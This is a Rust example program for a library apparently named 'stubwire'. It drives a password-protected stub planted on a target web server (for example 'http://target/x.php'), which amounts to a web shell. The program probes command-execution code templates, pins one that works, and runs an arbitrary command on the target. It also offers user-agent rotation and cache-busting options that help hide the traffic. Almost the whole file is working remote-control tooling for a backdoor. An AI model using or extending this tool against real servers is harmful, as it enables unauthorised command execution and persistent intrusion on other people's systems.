//! Exec example: negotiate a command vector and run one command
//!
//! This example demonstrates the full stubwire flow: build a channel, probe
//! a set of caller-supplied vectors, pin the first one that echoes the
//! verification token and run a command through it.
//!
//! # Prerequisites
//!
//! - A stub deployed at the target URL, sharing the password
//! - One or more code templates the stub evaluates, each using `${command}`
//!
//! # Usage
//!
//! ```bash
//! cargo run --example exec -- --url http://target/x.php --password hunter2 \
//!     --vector "primary=<code running ${command}>" --command id
//! ```
//!
//! With a saved session (the pinned vector is reused on the next run):
//! ```bash
//! cargo run --example exec -- --url http://target/x.php --password hunter2 \
//!     --vector "primary=<code running ${command}>" --session target.json --command uname
//! ```

use std::env;
use std::path::PathBuf;
use std::time::Duration;

use stubwire::{
    AgentPool, ChannelBuilder, CodeVector, CommandModule, FormatArgs, Prober, Session, Status,
    VectorRegistry,
};

const MODULE: &str = "shell";

#[tokio::main]
async fn main() -> Result<(), Box<dyn std::error::Error>> {
    // Initialize logging (set RUST_LOG=debug to see wire previews and stub debug output)
    env_logger::Builder::from_env(env_logger::Env::default().default_filter_or("info")).init();

    // Parse command line arguments
    let args = Args::parse();

    let Some(password) = &args.password else {
        eprintln!("Error: Must provide --password");
        std::process::exit(1);
    };
    if args.vectors.is_empty() {
        eprintln!("Error: Must provide at least one --vector NAME=TEMPLATE");
        std::process::exit(1);
    }

    // Build the channel
    let mut builder = ChannelBuilder::new(&args.url)
        .password(password)
        .random_param_nocache(args.nocache)
        .timeout(Duration::from_secs(args.timeout));
    if let Some(path) = &args.agents {
        builder = builder.agents(AgentPool::load(path)?);
    }
    let channel = builder.build()?;

    // Register vectors in the order given
    let mut registry = VectorRegistry::new();
    for (name, template) in &args.vectors {
        registry.register(CodeVector::new(name.as_str(), template)?)?;
    }

    let prober = Prober::new(|token| FormatArgs::new().with("command", format!("echo {token}")));
    let module = CommandModule::new(MODULE, registry, prober);

    let mut session = match &args.session {
        Some(path) if path.exists() => Session::load(path)?,
        _ => Session::for_url(&args.url),
    };

    println!("Negotiating with {}...", args.url);
    let status = if args.reprobe {
        module.reprobe(&channel, &mut session).await?
    } else {
        module.setup(&channel, &mut session).await?
    };

    if let Some(path) = &args.session {
        session.save(path)?;
    }

    if status != Status::Run {
        eprintln!("No working vector ({})", status);
        std::process::exit(2);
    }
    println!(
        "Using vector '{}'",
        session.pinned_vector(MODULE).unwrap_or("?")
    );

    // Run the command
    println!("\nExecuting: {}", args.command);
    println!("{}", "-".repeat(50));

    let output = module
        .run(&channel, &session, &FormatArgs::new().with("command", &args.command))
        .await?;

    match output {
        Some(output) => println!("{}", output),
        None => eprintln!("Target returned no payload"),
    }

    println!("{}", "-".repeat(50));

    Ok(())
}

/// Simple argument parser (avoiding external dependencies)
struct Args {
    url: String,
    password: Option<String>,
    vectors: Vec<(String, String)>,
    command: String,
    session: Option<PathBuf>,
    agents: Option<PathBuf>,
    nocache: bool,
    reprobe: bool,
    timeout: u64,
}

impl Args {
    fn parse() -> Self {
        let args: Vec<String> = env::args().collect();
        let mut url = "http://localhost/".to_string();
        let mut password = None;
        let mut vectors = Vec::new();
        let mut command = "id".to_string();
        let mut session = None;
        let mut agents = None;
        let mut nocache = false;
        let mut reprobe = false;
        let mut timeout = 30u64;

        let mut i = 1;
        while i < args.len() {
            match args[i].as_str() {
                "--url" | "-u" => {
                    i += 1;
                    if i < args.len() {
                        url = args[i].clone();
                    }
                }
                "--password" | "-P" => {
                    i += 1;
                    if i < args.len() {
                        password = Some(args[i].clone());
                    }
                }
                "--vector" | "-v" => {
                    i += 1;
                    if i < args.len() {
                        match args[i].split_once('=') {
                            Some((name, template)) => {
                                vectors.push((name.to_string(), template.to_string()))
                            }
                            None => eprintln!("Ignoring vector without NAME=: {}", args[i]),
                        }
                    }
                }
                "--command" | "-c" => {
                    i += 1;
                    if i < args.len() {
                        command = args[i].clone();
                    }
                }
                "--session" | "-s" => {
                    i += 1;
                    if i < args.len() {
                        session = Some(PathBuf::from(&args[i]));
                    }
                }
                "--agents" | "-a" => {
                    i += 1;
                    if i < args.len() {
                        agents = Some(PathBuf::from(&args[i]));
                    }
                }
                "--timeout" | "-t" => {
                    i += 1;
                    if i < args.len() {
                        timeout = args[i].parse().unwrap_or(30);
                    }
                }
                "--nocache" => nocache = true,
                "--reprobe" => reprobe = true,
                "--help" => {
                    Self::print_help();
                    std::process::exit(0);
                }
                _ => {
                    eprintln!("Unknown argument: {}", args[i]);
                }
            }
            i += 1;
        }

        Self {
            url,
            password,
            vectors,
            command,
            session,
            agents,
            nocache,
            reprobe,
            timeout,
        }
    }

    fn print_help() {
        println!(
            r#"stubwire exec example

USAGE:
    cargo run --example exec -- [OPTIONS]

OPTIONS:
    -u, --url <URL>              Stub URL [default: http://localhost/]
    -P, --password <PASS>        Password shared with the stub
    -v, --vector <NAME=CODE>     Candidate vector, repeatable, tried in order
    -c, --command <CMD>          Command to run [default: id]
    -s, --session <PATH>         Load and save the session as JSON
    -a, --agents <PATH>          File with one user agent per line
    -t, --timeout <SECS>         Request timeout [default: 30]
    --nocache                    Append a random query parameter to requests
    --reprobe                    Forget the pinned vector and negotiate again
    --help                       Print this help message
"#
        );
    }
}
